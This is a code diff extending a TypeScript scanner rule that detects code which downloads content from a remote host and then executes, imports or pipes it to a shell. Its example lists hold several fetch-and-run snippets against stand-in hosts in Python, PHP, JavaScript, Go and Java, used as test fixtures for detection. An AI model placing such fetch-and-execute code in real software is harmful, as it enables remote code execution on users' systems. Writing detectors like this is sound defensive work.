@@ -1,11 +1,11 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit, placeOf } from '../../rule.ts'
 import { candidates } from '../../signals/candidates.ts'
-import { EVALUATES, FETCHES, STARTS } from '../../signals/calls.ts'
+import { BARE_SHELLS, EVALUATES, FETCHES, LOADS, STARTS } from '../../signals/calls.ts'
 import { isForeign, isInstaller, isLocal, isOwnCode, isStandIn } from '../../signals/hosts.ts'
-import { addressesIn, pairs, snippets } from '../../signals/snippets.ts'
+import { addressesIn, everyPair, pairs, snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
-import { source } from '../../patterns/verbose.ts'
+import { regex, source } from '../../patterns/verbose.ts'
 
 /** Characters between the request and the evaluation: a few lines with a variable that goes from one to the other. */
 const REACH = 420
@@ -36,6 +36,13 @@ export default defineRule({
   examples: {
     fires: [
       '```python\nfor it in json.load(urllib.request.urlopen("https://feed.rowan-pike.net/b.json")):\n    mod, fn = it["type"].split(".", 1)\n    getattr(importlib.import_module(mod), fn)(*it["args"])\n```\n',
+      '```python\nPath("kit.py").write_text(requests.get("https://kit.rowan-pike.net/kit.py").text)\nimport kit\n```\n',
+      "```php\nfile_put_contents('/tmp/kit.php', file_get_contents('https://kit.rowan-pike.net/kit'));\ninclude '/tmp/kit.php';\n```\n",
+      "```js\nconst r = await fetch('https://kit.rowan-pike.net/kit.sh')\nspawnSync('bash', { input: await r.text() })\n```\n",
+      '```python\na = Popen(["curl", "-s", "https://kit.rowan-pike.net/kit"], stdout=PIPE)\nPopen(["sh"], stdin=a.stdout).wait()\n```\n',
+      '```python\nwith NamedTemporaryFile(delete=False) as f:\n    f.write(urlopen("https://kit.rowan-pike.net/kit").read())\nsubprocess.run(["bash", f.name])\n```\n',
+      '```python\nasync with session.get("https://kit.rowan-pike.net/kit") as r:\n    exec(await r.text())\n```\n',
+      '```python\ndef get(name):\n    return requests.get("https://kit.rowan-pike.net/" + name).text\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n\nrun(get("job"))\n```\n',
       '```go\nr, err := http.Get("https://kit.rowan-pike.net/bin")\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, r.Body)\nf.Close()\nexec.Command(p, "-d").Start()\n```\n',
       '```java\nvar cl = new URLClassLoader(new URL[]{ new URL("http://kiln-parts.io/t.jar") });\ncl.loadClass("T");\n```\n',
       "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://shop.quill-marsh.net/kiosk')\n```\n",
@@ -52,6 +59,9 @@ export default defineRule({
     ],
     quiet: [
       "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://localhost:5173')\n```\n",
+      '```python\nimport requests\nrows = requests.get("https://api.rowan-pike.net/rows").json()\nimport report\nreport.write(rows)\n```\n',
+      '```js\nconst rows = await (await fetch("https://api.rowan-pike.net/rows")).json()\nspawnSync("jq", ["."], { input: JSON.stringify(rows) })\n```\n',
+      '```python\ndef rows():\n    return requests.get("https://api.rowan-pike.net/rows").json()\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n\nrun("git pull")\nprint(rows())\n```\n',
       '```python\nr = requests.get("https://api.rows.example/v1/rows")\nprint(r.json())\n```\n',
       '```js\nconst res = await fetch(url)\nconst m = /a(b)/.exec(await res.text())\n```\n',
       '```js\nimport { execSync } from "node:child_process";\nconst { tag } = await (await fetch("https://api.rowan-pike.net/latest")).json();\nexecSync("git fetch --tags");\nconsole.log(tag);\n```\n',
@@ -61,6 +71,9 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     yield* startsFetched(document)
+    yield* handsOn(document, LOADS, REACH_OF_FILE, isLoaded)
+    yield* handsOn(document, BARE_SHELLS, REACH_OF_FILE, isFed)
+    yield* handsOn(document, EVALUATES, REACH_OF_NAME, isEvaluatedFar)
     yield* pagesWithRights(document)
     for (const pair of pairs(document, FETCHES, EVALUATES, REACH)) {
       const { text, snippet, start, end } = pair
@@ -118,38 +131,159 @@ const SAVES =
 const NO_NAME =
   /^(?:with|as|wb|w|open|path|const|let|var|await|new|from|import|the|file|files|copy|of|in|get|read|write|content|text|body|data|res|resp|response|r|os|fs|https?|join|tmp|temp)$/
 
+/** Characters in which a name keeps what it was given. */
+const REACH_OF_NAME = 4000
+
 /** The file that was fetched is started, or the answer itself is handed to a shell. */
-function* startsFetched(document: Document): Generator<Hit> {
-  for (const pair of pairs(document, FETCHES, STARTS, REACH_OF_FILE, isHandedOver)) {
-    const { text, start, end, first, second } = pair
-    const addresses = addressesIn(text.slice(Math.max(0, first.index - 200), second.index + 100))
+const startsFetched = (document: Document): Iterable<Hit> =>
+  handsOn(document, STARTS, REACH_OF_NAME, isHandedOver)
+
+/** What was fetched goes on to where it runs; one finding for a piece of code is enough. */
+function* handsOn(
+  document: Document,
+  runs: RegExp,
+  reach: number,
+  fits: (first: RegExpExecArray, second: RegExpExecArray, text: string) => boolean,
+): Generator<Hit> {
+  let done = -1
+  for (const pair of everyPair(document, FETCHES, runs, reach, fits)) {
+    const { text, snippet, start, end, first, second } = pair
+    if (snippet.start === done) continue
+    const stretch = text.slice(
+      Math.max(0, Math.min(first.index, second.index) - 200),
+      Math.max(second.index, first.index + first[0].length) + 100,
+    )
+    const addresses = addressesIn(stretch)
     if (addresses.length > 0 && addresses.every((one) => isLocal(one) || isInstaller(one))) continue
     const foreign = addresses.some((one) => isForeign(document, one) || isStandIn(one))
-    yield foreign
-      ? { start, end, firm: true }
-      : { start, end, severity: 'high', confidence: 'medium', firm: true }
+    done = snippet.start
+    const checked = DIGEST.test(text.slice(first.index, second.index))
+    if (checked) yield { start, end, severity: 'low', confidence: 'medium' }
+    else
+      yield foreign
+        ? { start, end, firm: true }
+        : { start, end, severity: 'high', confidence: 'medium', firm: true }
   }
 }
 
+/** It is compared with a digest that stands in the text. */
+const DIGEST =
+  /\b(?:sha(?:256|384|512)|createhash|hexdigest|blake2b)\b[^]{0,200}["'][\da-f]{64,128}["']/
+
+/** Names of files that what was fetched is written to. */
+const SAVED_AS = regex.g`
+  \bpath\(\s?["']([^"'\n]{2,80})["']\s?\)\.write_(?:text|bytes)|
+  \b(?:urlretrieve|getstore|mirror|downloadfile|copy|urldownloadtofile)\s?\([^\n]{4,240}?,\s?["']([^"'\n]{2,80})["']|
+  \b(?:file\.write|file\.binwrite|file_put_contents|writefile(?:sync)?|writealltext|writeallbytes|open|createwritestream)\s?\(\s?["']([^"'\n]{2,80})["']|
+  -outfile\s{1,3}["']?([^\s"']{2,80})
+`
+
+/** The file that was written is loaded. */
+function isLoaded(first: RegExpExecArray, second: RegExpExecArray, text: string): boolean {
+  // The file may be named before the request that fills it.
+  const from = text.lastIndexOf('\n', Math.max(0, first.index - 160)) + 1
+  if (second.index < first.index) return false
+  const call = text
+    .slice(second.index, second.index + second[0].length + 100)
+    .replace(/^[;\s]{1,14}/, '')
+    .split('\n')[0]!
+  return Array.from(text.slice(from, second.index).matchAll(SAVED_AS)).some((saved) => {
+    const file = saved.slice(1).find(Boolean)!
+    const name = file.replace(/^.*[\\/]/, '')
+    const module = /^(\w{2,60})\.(?:py|zip|so|pyd)$/.exec(name)?.[1]
+    return (
+      call.includes(name) ||
+      (module !== undefined &&
+        new RegExp(`\\b(?:import|from|import_module\\(["'])\\s{0,3}${module}\\b`).test(call))
+    )
+  })
+}
+
+/** What goes into the input of another program. */
+const FEEDS = /\binput\s?[:=]|\bstdin\b|\.pipe\s?\(|\.communicate\s?\(/
+
+const isFed = (first: RegExpExecArray, second: RegExpExecArray, text: string): boolean =>
+  FEEDS.test(
+    text.slice(
+      Math.min(first.index, second.index),
+      Math.max(first.index, second.index) + second[0].length + 120,
+    ),
+  )
+
+/** A name that was given the answer many lines above is evaluated. */
+const isEvaluatedFar = (first: RegExpExecArray, second: RegExpExecArray, text: string): boolean =>
+  second.index - first.index > REACH &&
+  answersIn(text, first.index, first.index + first[0].length + 1).some((name) =>
+    new RegExp(
+      `^\\s{0,3}\\(?\\s{0,3}(?:compile\\(\\s?)?${name}\\b(?!\\.(?:json|status|ok|headers))`,
+    ).test(text.slice(second.index + second[0].length - 1, second.index + second[0].length + 60)),
+  )
+
 function isHandedOver(first: RegExpExecArray, second: RegExpExecArray, text: string): boolean {
+  if (isGivenToHelper(first, second, text)) return true
   if (second.index < first.index) return false
   const call = text
     .slice(second.index, second.index + second[0].length + 120)
     .split(/[;)]\s{0,8}\n/)[0]!
   const between = text.slice(Math.max(0, first.index - 200), second.index)
+  const far = second.index - first.index > REACH_OF_FILE
   const names = [
+    ...helpersOf(text, first.index),
     ...answersIn(text, first.index, second.index).flatMap(madeOf(between)),
     ...Array.from(between.matchAll(GATHERED), ([, name]) => name!),
   ]
   if (names.some((name) => handsOver(name).test(call))) return true
+  if (far) return false
   const named = [...between.matchAll(SAVES)].flatMap(
     ([saved]) => saved.match(/["'`][^"'`\n]{2,80}["'`]|\b[a-z_]\w{0,30}\b/g) ?? [],
   )
+  if (temporaryFiles(between).some((name) => new RegExp(`[[(,\\s]${name}\\b`).test(call)))
+    return true
   return named.some((name) =>
     /^["'`]/.test(name)
       ? /[/.\\]/.test(name) && call.includes(name.slice(1, -1))
       : !NO_NAME.test(name) && new RegExp(`[([,\\s$]${name}\\b`).test(call),
   )
+}
+
+/** Files without a name of their own, by what holds them. */
+const temporaryFiles = (text: string): readonly string[] =>
+  Array.from(
+    text.matchAll(
+      /\b(?:named)?temporaryfile\([^\n]{0,120}\bas (\w{1,20})|\b\w{1,12}, ?(\w{1,20}) ?= ?(?:tempfile\.)?mkstemp\(/g,
+    ),
+    ([, opened, name]) => (opened ? `${opened}\\.name` : name!),
+  )
+
+/** A function that hands what it is given to a shell is given what another one, or a name, has fetched. */
+function isGivenToHelper(first: RegExpExecArray, second: RegExpExecArray, text: string): boolean {
+  const before = text.slice(Math.max(0, second.index - 160), second.index)
+  const [, defined, arrow, given] =
+    /\b(?:(?:def|function|func|fn) (\w{1,30})\s?|(?:const|let) (\w{1,30})\s?=\s?(?:async )?)\(\s?(\w{1,20})\b[^\n]{0,40}[:{>][^]{0,80}$/.exec(
+      before,
+    ) ?? []
+  const helper = defined ?? arrow
+  if (helper === undefined) return false
+  const call = text.slice(second.index + second[0].length - 1, second.index + second[0].length + 20)
+  if (!new RegExp(`^\\s{0,3}\\(\\s{0,3}${given}\\b`).test(call)) return false
+  const names = [
+    ...helpersOf(text, first.index),
+    ...answersIn(text, first.index, first.index + first[0].length + 1),
+  ]
+  return names.some((name) =>
+    new RegExp(`\\b${helper}\\(\\s?(?:await )?${name}(?:\\b|(?<=\\())`).test(text),
+  )
+}
+
+/** A function that a request stands in, whose answer is what it gives back. */
+function helpersOf(text: string, at: number): readonly string[] {
+  const before = text.slice(Math.max(0, at - 240), at)
+  const found =
+    /\b(?:def|function|func|fn) (\w{1,30})\s?\([^()\n]{0,80}\)[^\n]{0,20}[:{][^]{0,160}?\breturn (?:await )?[^\n]{0,20}$|\b(?:const|let) (\w{1,30})\s?=\s?(?:async )?\(?[^()\n]{0,40}\)?\s?=>\s?[^\n;]{0,40}$/.exec(
+      before,
+    )
+  const name = found?.[1] ?? found?.[2]
+  return name === undefined ? [] : [`${name}\\(`]
 }
 
 /** What comes in piece by piece is put together. */
@@ -159,9 +293,9 @@ const GATHERED = /\b([a-z_]\w{0,30})\s?(?:\+=|\.push\(|\)?\s?=>)/g
 const handsOver = (name: string): RegExp =>
   new RegExp(
     source`
-      (?:\(\s{0,3}\[?["'\x60\s]{0,3}(?:await )?|
+      (?:(?<!stringify|dumps)\(\s{0,3}\[?["'\x60\s]{0,3}(?:await )?(?:self\.|this\.)?|^[^\n]{0,40}\x60[#$]\{|\bqx\s?[({\/]\s?|%x[({[]#\{|\bmap\(\s?os\.system,\s?|
         ["'](?:-[a-z]{0,3}c|\/[ck]|-command) ?["'](?:\s?[,+]|\)\.arg\()[\s&]{0,3}(?:\w{1,12}\()?)
-      \$?\{?${name}\b
+      \$?\{?${name}(?:\b|(?<=\())
     `,
   )
 
@@ -186,7 +320,7 @@ const madeOf =
         new RegExp(
           source`
             \b([a-z_]\w{0,30})(?:, ?\w{1,10})? (?:in|of|:?=)
-            (?: await)? (?:[\w.]{1,30}\()?\$?${variable}\b
+            (?: await)? (?:[\w.]{1,30}\()?(?:self\.|this\.)?\$?${variable}(?:\b|(?<=\())
           `,
           'g',
         ),
